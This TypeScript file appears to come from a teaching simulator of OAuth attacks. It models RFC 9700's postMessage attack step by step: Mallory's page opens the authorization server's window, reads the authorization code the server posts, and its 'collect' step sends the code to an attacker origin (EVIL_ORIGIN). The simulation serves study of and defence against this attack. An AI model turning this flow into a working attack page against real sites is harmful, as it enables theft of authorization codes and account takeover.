/** Mallory's page opens the server's window, and reads what that posts (RFC 9700 §4.17.1.1, §4.17.1.2). */
import { beginOwnSession } from "@/content/moves/own-session";
import { EVIL_ORIGIN } from "@/lib/cast/attacked";
import { followed, submit, visit } from "@/lib/cast/steps/browser";
import { askServer, consentOptions } from "@/lib/cast/steps/sign-in";
import type { StepContext } from "@/lib/flow/define";
import type { Move } from "@/lib/flow/move";
import { pairsOf, withQuery } from "@/lib/http/form";
import { get } from "@/lib/http/message";
import { writeBait, writeBaitForOwn } from "@/lib/parties/attacker/attacker";
import { LURE_PATH } from "@/lib/parties/attacker/pages";
import { originOf } from "@/lib/parties/browser/browser";
import { postedBy } from "@/lib/parties/browser/messages";
import { fromPage } from "@/lib/parties/browser/script-call";
import { stands } from "@/lib/parties/context";
import { atLeast } from "@/lib/vocabulary/settings";
import { recall } from "@/lib/world/world";
import { openWithFrame } from "./forging";
import { COLLECT, readerPage } from "./pages";
import { openerOf, openWindow, post } from "./windows";
import { luredWords, readingWords } from "./words-reading";
import { baitOf, forges, receiverOf } from "./world";

/** A code of a confidential client she cannot redeem herself: only the client can, for a session of hers (RFC 9700 §4.5.4). */
const redeemsHerself = ({ settings }: StepContext): boolean => !atLeast(settings, "clientType", "confidential");

async function writeRequest(ctx: StepContext): Promise<string> {
	const { step } = beginOwnSession;
	if (!redeemsHerself(ctx) && step.kind === "run") await step.run(ctx);
	return ctx.work("attacker", { note: "bait" }, (at) => {
		const receiver = receiverOf(ctx);
		const attacker = recall(ctx.world, "attacker", "attacker");
		const asked = pairsOf({
			resource: stands(at, "aud", "on") ? recall(ctx.world, "client", "client").resource : undefined,
			response_mode: "web_message",
			web_message_uri: receiver,
		});
		const write = redeemsHerself(ctx) ? writeBait : writeBaitForOwn;
		const written = write(at, baitOf(ctx));
		attacker.bait = withQuery(written, asked);
		attacker.lure = readerPage(attacker.bait);
		return { result: attacker.bait, facts: [{ name: "web_message_uri", text: receiver }] };
	});
}

/** What Mallory has put into her page, and the click of Ada's in it. */
export const lure: Move<"SERVER_OPENED" | "CLIENT_OPENED" | "NOT_LURED"> = {
	phase: "prepare",
	actor: "attacker",
	does: "prepares a page",
	text: "Mallory puts a script into a page of hers, and Ada's browser opens that: Ada follows a link, or it is framed in the client's.",
	events: {
		SERVER_OPENED: "The page opens the server in a window of its own.",
		CLIENT_OPENED:
			"The page can post to the client's: it opens that in a window of its own, or stands in a frame of it.",
		NOT_LURED: "Ada's browser went somewhere else.",
	},
	step: {
		kind: "run",
		run: async (ctx) => {
			if (ctx.settings.variant === "frame") return { type: (await openWithFrame(ctx)) ? "CLIENT_OPENED" : "NOT_LURED" };
			const isForging = forges(ctx.settings);
			const url = isForging ? `${EVIL_ORIGIN}/` : await writeRequest(ctx);
			const { request, response } = await visit(ctx, "user", `${EVIL_ORIGIN}${LURE_PATH}`, { note: "lure" });
			const isThere = originOf(request.url) === EVIL_ORIGIN && response.body.includes("<script>");
			if (!isThere) return { type: "NOT_LURED" };
			openWindow(ctx);
			if (!isForging) recall(ctx.world, "user", "browser").following = url;
			return { type: isForging ? "CLIENT_OPENED" : "SERVER_OPENED" };
		},
	},
	words: { ...beginOwnSession.words, ...luredWords },
};

export const askInWindow: Move<"ASKED" | "NOT_ASKED"> = {
	phase: "ask",
	actor: "as",
	does: "checks the request",
	text: "The window brings a request in the client's name to the server. Mallory wrote it.",
	events: { ASKED: "Every check accepts, and the server asks Ada.", NOT_ASKED: "The server does not ask Ada." },
	step: {
		kind: "run",
		run: async (ctx) => {
			const { type } = await askServer(ctx, "user", followed(ctx, "user"), { note: "asked" });
			return { type: type === "REQUEST_OK" ? "ASKED" : "NOT_ASKED" };
		},
	},
	words: {},
};

export const agreeInWindow: Move<"ANSWERED" | "NOT_ANSWERED"> = {
	phase: "consent",
	actor: "user",
	does: "reads who asks for what",
	text: "Ada decides whether Photo Print may see her photos. The page is the server's own.",
	events: { ANSWERED: "The server sends a page that posts the answer.", NOT_ANSWERED: "The server posts nothing." },
	step: {
		kind: "choice",
		options: consentOptions,
		run: async (ctx, fields) => {
			ctx.wait(5);
			const { response } = await submit(ctx, "user", fields, {
				note: "agreed",
				answerPhase: ({ body }) => (postedBy(body) ? "return" : "consent"),
			});
			return { type: postedBy(response.body) ? "ANSWERED" : "NOT_ANSWERED" };
		},
	},
	words: {},
};

export const postToOpener: Move<"DELIVERED" | "WITHHELD"> = {
	phase: "return",
	actor: "user",
	does: "decides who gets the message",
	text: "The server's page posts the answer to the window that has opened it. The browser looks whether it may get there.",
	events: { DELIVERED: "The page in that window gets the answer.", WITHHELD: "No page gets the answer." },
	step: {
		kind: "run",
		run: async (ctx) => {
			const posted = postedBy(recall(ctx.world, "user", "browser").page?.html ?? "");
			if (!posted) return { type: "WITHHELD" };
			return { type: (await post(ctx, "posted", posted, openerOf(ctx))) ? "DELIVERED" : "WITHHELD" };
		},
	},
	words: {},
};

export const collect: Move<"CODE_CAUGHT" | "CODE_FOR_CLIENT" | "NOTHING_CAUGHT"> = {
	phase: "return",
	actor: "attacker",
	does: "sends home what came",
	text: "The script of Mallory's page sends what it has got to her own server.",
	events: {
		CODE_CAUGHT: "There is a code in it, and the client is a public one.",
		CODE_FOR_CLIENT: "There is a code in it, and only the client can redeem it.",
		NOTHING_CAUGHT: "No code came to Mallory.",
	},
	step: {
		kind: "run",
		run: async (ctx) => {
			const { data = {} } = postedBy(recall(ctx.world, "user", "browser").page?.html ?? "") ?? {};
			const request = fromPage(EVIL_ORIGIN, get(withQuery(COLLECT, Object.entries(data))));
			await ctx.send("user", request, { channel: "front", note: "collect" });
			const { code } = recall(ctx.world, "attacker", "attacker");
			if (code === undefined) return { type: "NOTHING_CAUGHT" };
			return { type: redeemsHerself(ctx) ? "CODE_CAUGHT" : "CODE_FOR_CLIENT" };
		},
	},
	words: readingWords,
};
